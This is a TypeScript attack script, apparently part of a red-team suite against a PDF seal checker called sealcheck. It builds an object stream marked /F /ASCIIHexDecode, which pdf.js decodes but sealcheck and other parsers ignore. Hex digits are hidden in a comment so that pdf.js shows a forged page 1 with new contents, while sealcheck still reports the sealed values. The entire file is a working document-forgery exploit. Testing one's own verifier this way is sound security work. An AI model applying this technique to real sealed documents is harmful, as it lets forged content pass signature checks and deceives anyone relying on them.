// a21: an update re-states page 1 in a new object stream with no /Filter for sealcheck (nor poppler's /Filter,
// PDFium, qpdf) but /F /ASCIIHexDecode: pdf.js takes a stream's filter from /F before /Filter (Parser.filter:
// dict.get("F", "Filter"); /DP before /DecodeParms), and its ASCIIHex decoder skips every character that is not a
// hex digit up to the first ">". sealcheck reads the raw text: page 1's values as sealed, a comment holding hex
// digits. pdf.js reads the digits: its own object stream header and a page 1 with /Contents <new> 0 R.
//   npx tsx scripts/attack-s16/f-objstm.ts <honest|hex>   REAL=0 for samples/valid (default: the real archive)
import { judge, latin, page1, printable } from "./lib.js";

const mode = process.argv[2] ?? "hex";
if (!["honest", "hex"].includes(mode)) throw new Error("usage: <honest|hex>");
const p = page1();
const isHex = (c: string) => /[0-9A-Fa-f]/.test(c);
const hexOf = (s: string) => Buffer.from(s, "latin1").toString("hex");

// Page 1's keys: those without ">" before the comment (the first raw ">" ends pdf.js's data), the rest after.
const all = [...p.kept, ...p.sealedTail];
const before = all.filter((t) => !t.includes(">"));
const after = all.filter((t) => t.includes(">"));
const DUMMY = 2500; // "25" "00": "%" and NUL to pdf.js
const F = 96; // /First, shared
// The dummy object's value (and so the page's offset) varied until pdf.js's junk holds no end of line.
let openS = "";
let hex = "";
let dummy = "";
for (const v of ["null", ...Array.from({ length: 200 }, (_, i) => String(i))]) {
  dummy = `${v} `;
  const headerS = `${DUMMY} 0 ${p.num} ${dummy.length}`; // sealcheck: object DUMMY at 0, page 1 after it
  if (headerS.length >= F) throw new Error("header too long");
  openS = `${headerS.padEnd(F, " ")}${dummy}<< ${before.join(" ")} %`;
  if (mode === "honest") break;
  const pre = [...openS].filter(isHex).join("");
  const lead = pre.length % 2 ? "0" : ""; // the last byte of the junk: 0x?0, never an end of line
  const junk = Buffer.from(pre + lead, "hex");
  if (junk[0] !== 0x25) throw new Error("pdf.js's data does not start a comment");
  if (junk.some((b) => b === 10 || b === 13)) continue;
  const forged =
    `<< ${before.filter((t) => !t.startsWith("/Contents")).join(" ")} /Contents ${p.content} 0 R ` +
    `/Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>\n%`;
  const headerJ = `\n${DUMMY} 0 ${p.num} 5`;
  if (junk.length + headerJ.length > F) throw new Error("pdf.js's header does not fit before /First");
  hex = lead + hexOf(`${headerJ.padEnd(F - junk.length, " ")}null ${forged}`);
  break;
}
if (mode === "hex" && !hex) throw new Error("no dummy value found");
const text = `${openS}${hex}\n${after.join(" ")} >>\n`;
const data = Uint8Array.from(latin(text));
const dataJ = Buffer.from(
  [...text.slice(0, text.indexOf(">"))]
    .filter(isHex)
    .join("")
    .padEnd(Math.ceil([...text.slice(0, text.indexOf(">"))].filter(isHex).length / 2) * 2, "0"),
  "hex",
);
console.log(`sealcheck reads: ${printable(latin(text.slice(0, 160) + " … " + text.slice(-200)))}`);
console.log(`pdf.js reads: ${printable([...dataJ])}`);
const filter = mode === "honest" ? "" : "/F /ASCIIHexDecode";
judge(`f-objstm ${mode}`, p.write({ filter, first: F, data, n: 2, index: 1 }, `f-objstm-${mode}`));
